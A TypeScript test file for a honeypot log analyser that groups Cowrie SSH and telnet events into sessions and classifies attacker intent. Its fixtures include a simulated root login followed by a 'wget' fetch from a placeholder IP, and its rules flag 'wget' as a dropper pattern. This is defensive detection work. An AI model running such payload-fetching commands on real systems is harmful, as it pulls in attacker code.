import { describe, expect, test } from 'vitest';
import { readLog } from '../log/read-log.ts';
import { KnownAgents } from './agent.ts';
import { Judge } from './judge.ts';
import type { Rule } from './rule.ts';
import { Sessions } from './session.ts';
import { Signs } from './signs.ts';

const RULES: readonly Rule[] = [
  {
    id: 'shell-command',
    viewpoint: 'sequence',
    where: [{ in: 'event', pattern: '^cowrie\\.command\\.' }],
    intent: 'post-compromise',
    flags: [],
    certainty: 'high',
  },
  {
    id: 'shell-fetch',
    viewpoint: 'callback',
    where: [{ in: 'command', pattern: '\\bwget ' }],
    intent: 'post-compromise',
    flags: ['dropper'],
    certainty: 'medium',
  },
];

function event(session: string, eventid: string, second: number, extra: object): string {
  const timestamp = `2026-11-24T03:56:${String(second).padStart(2, '0')}.000000Z`;
  return JSON.stringify({
    session,
    src_ip: '203.0.113.21',
    eventid,
    timestamp,
    sensor: 's',
    message: '',
    ...extra,
  });
}

function sessionsIn(lines: readonly string[]) {
  const judge = new Judge(new Signs(RULES), new KnownAgents([]));
  const sessions = new Sessions();
  for (const { reading } of readLog(lines.join('\n'))) sessions.add(judge.judge(reading));
  return sessions.all();
}

describe('a session', () => {
  test('is read as a whole: what was tried, what was done, what it was for', () => {
    const [first, second, ...others] = sessionsIn([
      event('aaaaaaaaaaaa', 'cowrie.session.connect', 1, { protocol: 'ssh' }),
      event('bbbbbbbbbbbb', 'cowrie.session.connect', 2, { protocol: 'telnet' }),
      event('aaaaaaaaaaaa', 'cowrie.login.failed', 3, { username: 'root', password: 'a' }),
      event('aaaaaaaaaaaa', 'cowrie.login.success', 4, { username: 'root', password: 'b' }),
      event('aaaaaaaaaaaa', 'cowrie.command.input', 5, { input: 'wget http://203.0.113.9/x' }),
      event('aaaaaaaaaaaa', 'cowrie.command.failed', 6, { input: 'wget http://203.0.113.9/x' }),
      '192.0.2.1 - - [24/Nov/2026:04:26:48 +0000] "GET / HTTP/1.1" 200 3 "-" "-"',
    ]);
    expect(others).toEqual([]);
    expect(first).toMatchObject({
      id: 'aaaaaaaaaaaa',
      records: 5,
      credentials: 2,
      commands: 1,
      source: '203.0.113.21',
    });
    expect(first?.verdict).toMatchObject({
      intent: 'post-compromise',
      certainty: 'high',
      flags: ['dropper'],
    });
    expect((first?.to ?? 0) - (first?.from ?? 0)).toBe(5_000);
    expect(second?.verdict).toMatchObject({ intent: 'discovery', certainty: 'low' });
  });

  test('of tries alone is for credentials', () => {
    const [session] = sessionsIn([
      event('cccccccccccc', 'cowrie.login.failed', 1, { username: 'root', password: 'a' }),
      event('cccccccccccc', 'cowrie.session.closed', 2, { duration: 1 }),
    ]);
    expect(session?.verdict.intent).toBe('credential');
  });
});
